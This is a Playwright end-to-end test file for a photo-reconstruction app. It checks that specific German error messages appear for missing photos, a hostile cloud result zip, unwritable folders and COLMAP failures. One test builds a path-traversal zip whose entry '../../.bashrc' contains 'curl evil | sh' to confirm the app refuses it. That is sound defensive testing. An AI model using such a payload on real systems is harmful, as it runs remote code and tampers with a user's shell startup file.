/**
 * Errors that used to show only their code's generic sentence, now with their specifics (code + detail
 * + params from the core, main/contract/error-details.ts), said in German in the real browser with none
 * of the core's English: a folder without photos (files looked at, counted by reason), a hostile result
 * zip from the cloud (which entry, why), a download folder that cannot be made (which folder, errno), and
 * a pre-flight check that cannot make its work folder.
 */
import fs from 'node:fs/promises';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { rawZip } from '../main/core/archive/testing/raw-zip.js';
import { makeJpeg } from '../main/core/photos/testing/make-jpeg.js';
import { makePhotoSet } from '../main/core/photos/testing/make-set.js';
import { de } from '../renderer/i18n/de.js';
import { GOOD_TOKEN, expect, screen, test, type World } from './fixtures.js';
import { expectGermanOnly } from './lang-checks.js';

/** The app in German, with a token: the state every test here starts from. */
async function inGerman(world: World) {
  world.web.runtime.settings.update({ locale: 'de' });
  await world.web.runtime.secrets.set(GOOD_TOKEN);
}

/** Home in German: the set's path typed and opened, as a person does. */
async function openInGerman(page: Page, world: World, set: string) {
  await page.goto(world.web.pageUrl);
  await page.getByLabel(de.home.pathLabel).fill(set);
  await page.getByRole('button', { name: de.home.open, exact: true }).click();
}

/** A cloud job in German that fails after the cloud is done (at download or extraction). */
async function failsAtTheEnd(page: Page, world: World) {
  await inGerman(world);
  const setDir = path.join(world.dir, 'Eule');
  await makePhotoSet(setDir, { count: 6, bytesEach: 40_000, seed: 21 });
  const job = await world.web.service.createJob({ paths: [setDir], backend: 'cloud' });
  await expect
    .poll(async () => (await world.web.service.listJobs()).find((j) => j.id === job.id)?.state, {
      timeout: 60_000,
    })
    .toBe('failed');
  const failed = (await world.web.service.listJobs()).find((j) => j.id === job.id)!;
  await page.goto(world.web.pageUrl);
  await page
    .getByRole('link', { name: de.nav.queue })
    .or(page.getByRole('button', { name: de.nav.queue }))
    .first()
    .click();
  return failed;
}

test('no photos in the folder: German counts the files by reason and names the first', async ({
  page,
  world,
}) => {
  await inGerman(world);
  const set = path.join(world.dir, 'Keine-Fotos');
  await fs.mkdir(set);
  await fs.writeFile(path.join(set, 'notizen.txt'), 'Notizen zum Scan\n'.repeat(30));
  await fs.writeFile(path.join(set, 'liste.csv'), 'a;b;c\n'.repeat(30));
  await fs.writeFile(path.join(set, 'leer.jpg'), '');
  await openInGerman(page, world, set);
  const error = page.getByRole('alert').filter({ hasText: de.errors.invalidInput });
  await expect(error.getByTestId('error-detail')).toHaveText(
    new RegExp(
      `In „${set.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}“ wurden keine Fotos gefunden\\. 3 Dateien geprüft: 2 sind keine Fotos und 1 ist leer \\(z\\. B\\. `,
    ),
  );
  const shown = await error.innerText();
  for (const name of ['leer.jpg', 'liste.csv', 'notizen.txt']) expect(shown).toContain(name);
  expect(shown).not.toMatch(/No photos found|skipped|not accepted|files?\b/);
  await expectGermanOnly(page, 'no photos found', [set, 'leer.jpg', 'liste.csv', 'notizen.txt']);
  await screen(page, 'de-error-no-photos');
});

test('a hostile result zip from the cloud: German names the entry and why it was refused', async ({
  page,
  world,
}) => {
  world.stub.setResultZip(rawZip([{ name: '../../.bashrc', data: Buffer.from('curl evil | sh\n') }]));
  const job = await failsAtTheEnd(page, world);
  expect(job.error).toMatchObject({
    code: 'UNSAFE_ARCHIVE',
    detail: 'dotdot',
    params: { entry: '../../.bashrc' },
  });
  const error = page.getByRole('alert').filter({ hasText: de.errors.unsafeArchive });
  await expect(error.getByTestId('error-detail')).toHaveText(
    'Das Ergebnis-ZIP enthält einen Eintrag „../../.bashrc“, der mit „..“ aus seinem Ordner herausführt.',
  );
  expect(await error.innerText()).not.toContain(job.error!.message);
  await expectGermanOnly(page, 'unsafe archive', ['../../.bashrc', 'Eule']);
  await screen(page, 'de-error-unsafe-archive');
});

test('a download folder that cannot be made: German names the folder and the error', async ({
  page,
  world,
}) => {
  // A file where the download folder's parent should be: mkdir fails with ENOTDIR (root or not).
  const blocker = path.join(world.dir, 'kein-ordner');
  await fs.writeFile(blocker, 'x');
  world.web.runtime.settings.update({ downloadDir: path.join(blocker, 'Ergebnisse') });
  const job = await failsAtTheEnd(page, world);
  expect(job.error).toMatchObject({ code: 'DISK', detail: 'failed', params: { errno: 'ENOTDIR' } });
  const folder = String(job.error!.params!.folder);
  expect(folder.startsWith(blocker)).toBe(true);
  const error = page.getByRole('alert').filter({ hasText: de.errors.disk });
  await expect(error.getByTestId('error-detail')).toHaveText(
    `Das Schreiben in „${folder}“ ist fehlgeschlagen (Fehler ENOTDIR). Prüfen Sie den Datenträger und versuchen Sie es erneut.`,
  );
  expect(await error.innerText()).not.toContain(job.error!.message);
  await expectGermanOnly(page, 'disk error', [folder, 'Eule']);
  await screen(page, 'de-error-disk');
});

test('a local COLMAP run that finds nothing to work with: German says what and what to do', async ({
  page,
  world,
}) => {
  await inGerman(world);
  // Four flat grey pictures: valid JPEGs, but nothing COLMAP can find features on.
  const set = path.join(world.dir, 'Grau');
  await fs.mkdir(set);
  for (let i = 1; i <= 4; i++)
    await fs.writeFile(path.join(set, `grau_${i}.jpg`), makeJpeg({ width: 320, height: 240 }));
  const { id } = await world.web.service.createJob({ paths: [set], backend: 'local' });
  await expect
    .poll(async () => (await world.web.service.listJobs()).find((j) => j.id === id)?.state, {
      timeout: 90_000,
    })
    .toBe('failed');
  const job = (await world.web.service.listJobs()).find((j) => j.id === id)!;
  // COLMAP finds no features at all, or a few on the JPEG's blocks that place no photo: both are said.
  expect(job.error?.code).toBe('TOOL');
  expect(['noFeatures', 'noModel']).toContain(job.error?.detail);
  await page.goto(world.web.pageUrl);
  await page
    .getByRole('link', { name: de.nav.queue })
    .or(page.getByRole('button', { name: de.nav.queue }))
    .first()
    .click();
  const error = page.getByRole('alert').filter({ hasText: de.errors.tool });
  await expect(error.getByTestId('error-detail')).toHaveText(
    job.error?.detail === 'noModel'
      ? /COLMAP konnte keines der 4 Fotos zu den anderen in Beziehung setzen, daher gibt es kein Modell\./
      : de.errorDetail.tool.noFeatures,
  );
  await expectGermanOnly(page, 'tool error', ['Grau']);
  expect(await error.innerText()).not.toContain(job.error!.message);
  await screen(page, 'de-error-tool');
});

test('a pre-flight check that cannot finish: German says why, by code, not the core’s English', async ({
  page,
  world,
}) => {
  await inGerman(world);
  // The check's work folder cannot be made: a file stands where it should be.
  const data = path.join(world.dir, 'data');
  await fs.writeFile(path.join(data, 'check'), 'kein Ordner');
  const set = path.join(world.dir, 'Krug');
  await makePhotoSet(set, { count: 6, bytesEach: 30_000, seed: 23 });
  await openInGerman(page, world, set);
  const panel = page.getByTestId('check-panel');
  await expect(panel).toContainText(de.check.failed);
  await expect(panel.getByTestId('error-detail')).toHaveText(
    `Das Schreiben in „${data}“ ist fehlgeschlagen (Fehler EEXIST). Prüfen Sie den Datenträger und versuchen Sie es erneut.`,
  );
  expect(await panel.innerText()).not.toMatch(/EEXIST: file already exists/);
  await expectGermanOnly(page, 'check failed', [set, data, 'Krug']);
  await screen(page, 'de-error-check-failed');
});
